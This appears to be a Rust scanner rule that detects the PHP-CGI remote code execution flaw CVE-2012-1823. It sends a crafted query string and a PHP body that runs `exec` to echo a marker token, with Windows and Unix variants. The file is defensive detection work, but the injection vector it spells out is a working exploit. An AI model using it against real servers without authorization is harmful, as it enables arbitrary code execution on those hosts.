//! Active rule for the PHP-CGI argument-injection remote code execution
//! (CVE-2012-1823).
//!
//! A crafted query string turns the request body into auto-prepended PHP;
//! the injected script echoes a marker token via `system`, one attack
//! flavor per target OS family. Seeing the token at the start of the
//! response body is conclusive for code execution.

use std::collections::BTreeMap;

use async_trait::async_trait;
use url::Url;

use crate::errors::ScanError;
use crate::models::alert::{Alert, AlertBuilder, Confidence, Risk};
use crate::models::tech::{Tech, TechSet};
use crate::rules::{ActiveRule, RuleCategory, RuleMetadata, RuleStatus};
use crate::services::active_scan::ScanHost;

const PLUGIN_ID: i32 = 20018;

/// Marker echoed by the injected script; unlikely to occur in any page.
const ECHO_TOKEN: &str = "NCBWPvOWUOVOnMDc";

/// Query string triggering the PHP-CGI argument injection.
const ATTACK_QUERY: &str = "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input";

struct OsAttack {
    /// OS families this flavor applies to.
    techs: &'static [Tech],
    command: &'static str,
}

const ATTACKS: &[OsAttack] = &[
    OsAttack {
        techs: &[Tech::Windows],
        command: "cmd.exe /C echo",
    },
    OsAttack {
        techs: &[Tech::Linux, Tech::MacOs],
        command: "echo",
    },
];

/// Active scan rule probing for CVE-2012-1823 on PHP targets.
pub struct PhpCgiRceRule {
    metadata: RuleMetadata,
}

impl PhpCgiRceRule {
    pub fn new() -> Self {
        Self {
            metadata: RuleMetadata {
                id: PLUGIN_ID,
                name: "Remote Code Execution - CVE-2012-1823".to_string(),
                risk: Risk::High,
                confidence: Confidence::Medium,
                category: RuleCategory::Injection,
                cwe_id: 20,
                wasc_id: 20,
                tags: BTreeMap::from([
                    ("OWASP_2021_A06".to_string(), String::new()),
                    ("OWASP_2017_A01".to_string(), String::new()),
                ]),
                status: RuleStatus::Release,
            },
        }
    }

    pub fn boxed() -> Box<dyn ActiveRule> {
        Box::new(Self::new())
    }

    fn payload(attack: &OsAttack) -> String {
        format!(
            "<?php exec('{} {}',$colm);echo join(\"\\n\",$colm);die();?>",
            attack.command, ECHO_TOKEN
        )
    }

    fn build_alert(&self, attack_payload: &str, evidence: &str) -> AlertBuilder {
        self.metadata
            .alert()
            .description(
                "Some PHP versions, when configured to run as a CGI, do not correctly handle \
                 query strings that lack an unescaped '=' character, enabling arbitrary code \
                 execution.",
            )
            .solution("Upgrade to the latest stable version of PHP, or use the Apache web server and the mod_rewrite module to filter out malicious requests.")
            .attack(attack_payload)
            .evidence(evidence)
    }
}

impl Default for PhpCgiRceRule {
    fn default() -> Self {
        Self::new()
    }
}

/// Base URI with the query and fragment replaced by the attack query.
fn attack_uri(base_uri: &str) -> String {
    match Url::parse(base_uri) {
        Ok(mut url) => {
            url.set_fragment(None);
            url.set_query(None);
            format!("{url}?{ATTACK_QUERY}")
        }
        Err(_) => format!("{base_uri}?{ATTACK_QUERY}"),
    }
}

#[async_trait]
impl ActiveRule for PhpCgiRceRule {
    fn metadata(&self) -> &RuleMetadata {
        &self.metadata
    }

    fn targets(&self) -> Option<TechSet> {
        Some(TechSet::of([Tech::Php]))
    }

    async fn scan(&mut self, host: &mut ScanHost) -> Result<(), ScanError> {
        for attack in ATTACKS {
            if !attack.techs.iter().any(|tech| host.tech().includes(*tech)) {
                continue;
            }
            if host.is_stop() {
                tracing::debug!(rule = %self.metadata.name, "Scan rule stopping");
                return Ok(());
            }

            let payload = Self::payload(attack);
            let mut probe = host.new_msg();
            probe.request.method = "POST".to_string();
            probe.request.uri = attack_uri(&host.base_msg().request.uri);
            probe.request.body = payload.clone();

            match host.send_and_receive(&mut probe).await {
                Ok(()) => {}
                Err(ScanError::Stopped) => return Err(ScanError::Stopped),
                Err(e) => {
                    tracing::warn!(
                        rule = %self.metadata.name,
                        uri = %probe.request.uri,
                        error = %e,
                        "Probe failed, treating as inconclusive"
                    );
                    continue;
                }
            }

            let body = probe
                .response
                .as_ref()
                .map(|r| r.body.trim())
                .unwrap_or_default();
            if body.starts_with(ECHO_TOKEN) {
                host.raise(self.build_alert(&payload, body));
                return Ok(());
            }
        }
        Ok(())
    }

    fn example_alerts(&self) -> Vec<Alert> {
        vec![self
            .build_alert(&Self::payload(&ATTACKS[1]), ECHO_TOKEN)
            .build()]
    }
}
